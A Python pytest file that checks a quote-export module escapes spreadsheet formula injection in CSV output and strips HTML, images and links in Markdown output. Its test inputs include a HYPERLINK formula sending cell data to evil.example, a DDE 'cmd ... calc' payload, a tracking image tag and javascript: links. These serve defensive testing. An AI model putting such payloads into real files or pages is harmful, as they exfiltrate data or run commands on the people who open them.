"""Quotes written to CSV: a cell a spreadsheet would run as a formula is kept as text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from gui.story import Story
from gui.story.quote_export import CSV_HEADER, quotes_csv


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "start",
    ["=", "+", "-", "@", "\t", "\r", "\0"],
    ids=["equals", "plus", "minus", "at", "tab", "CR", "NUL"],
)
def test_a_cell_starting_like_a_formula_is_neutralised(seed_story: Story, start: str) -> None:
    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"Click")'
    quote = replace(seed_story.quotes[1], text=formula)
    speaker = replace(quote.speaker, name=start + "cmd|' /C calc'!A0", role=start + "1+1")
    story = replace(seed_story, source=start + "SUM(1)", url=start + "x")
    (header, row) = _rows(quotes_csv([replace(quote, speaker=speaker)], story))
    assert tuple(header) == CSV_HEADER
    for cell in (row[0], row[1], row[2], row[3], row[5]):
        assert cell.startswith("'" + start), cell


def test_ordinary_cells_are_written_as_they_are(seed_story: Story) -> None:
    (_, *rows) = _rows(quotes_csv(seed_story.quotes, seed_story))
    assert [row[0] for row in rows] == [quote.display_text for quote in seed_story.quotes]
    assert {row[5] for row in rows} == {seed_story.url}


def test_line_breaks_inside_a_quote_stay_inside_its_cell(seed_story: Story) -> None:
    quote = replace(seed_story.quotes[1], text="one\rtwo\nthree\r\nfour")
    rows = _rows(quotes_csv([quote], seed_story))
    assert len(rows) == 2
    assert rows[1][0] == "one\rtwo\nthree\r\nfour"


@pytest.mark.parametrize("preset", ["commonmark", "default"])
def test_markdown_export_renders_the_storys_words_as_words(seed_story: Story, preset: str) -> None:
    from markdown_it import MarkdownIt

    from gui.story.quote_export import quotes_markdown

    text = "# Big heading and <img src=http://127.0.0.1:8765/track.png> and [click me](javascript:alert(1)),"
    quote = replace(seed_story.quotes[3], text=text)
    quote = replace(quote, speaker=replace(quote.speaker, name="[Bob](http://evil.example) Stone"))
    story = replace(seed_story, headline="Big\n# news <img src=h>", source="*Daily* <img src=s>", url="javascript:alert(2)")
    markdown = quotes_markdown([quote], story)
    rendered = MarkdownIt(preset).render(markdown)
    assert rendered.count("<h1>") == 1
    assert rendered.startswith("<h1>Quotes from “Big # news &lt;img src=h&gt;”</h1>\n")
    assert [tag for tag in ("<img", "<a ", "<h2") if tag in rendered] == []
    assert "<p><em>*Daily* &lt;img src=s&gt;</em>, 19 December 2022, javascript:alert(2)</p>" in rendered
    assert "&lt;img src=http://127.0.0.1:8765/track.png&gt; and [click me](javascript:alert(1))." in rendered
    assert "— [Bob](http://evil.example) Stone" in rendered


def test_markdown_export_links_a_plain_web_address(seed_story: Story) -> None:
    from gui.story.quote_export import quotes_markdown

    markdown = quotes_markdown(seed_story.quotes[:1], seed_story)
    assert f"*Entertainment Weekly*, 19 December 2022, <{seed_story.url}>\n\n" in markdown
